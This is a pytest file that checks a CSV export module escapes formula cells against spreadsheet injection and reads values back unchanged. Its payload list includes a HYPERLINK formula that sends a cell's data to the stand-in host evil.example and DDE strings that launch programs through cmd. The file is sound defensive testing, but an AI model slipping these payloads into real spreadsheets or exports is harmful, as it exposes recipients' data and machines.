"""Spreadsheets we hand out never carry a live formula (CSV injection), and what we wrote
reads back as it was."""

from __future__ import annotations

import csv
import io

import pytest

from hotline.exports import csv_text, read_cell, safe_cell

# Payloads from the usual CSV-injection lists: each would run in Excel or LibreOffice.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    "＝1+1 全角等号不会被当作公式",  # left alone: Excel does not start a formula with it
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_go_out_as_text_and_come_back(payload: str) -> None:
    text = csv_text([[payload, "表头"], ["正文", payload]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    for cell in (rows[0][0], rows[1][1]):  # a header cell and a data cell alike
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert read_cell(cell) == payload


@pytest.mark.parametrize("value", ["-2.5", "+8613812341234", "-3", "1e-5", 42, -1.5, None, ""])
def test_numbers_and_plain_text_are_left_as_they_are(value) -> None:
    assert safe_cell(value) == value


def test_text_that_only_starts_with_an_apostrophe_reads_unchanged() -> None:
    assert read_cell("'引号开头的普通文字") == "'引号开头的普通文字"


@pytest.mark.parametrize("value", ["'=SUM(A1)", "'+号开头", "''=两个引号", "'@某人"])
def test_text_that_already_looks_protected_comes_back_whole(value: str) -> None:
    assert read_cell(safe_cell(value)) == value
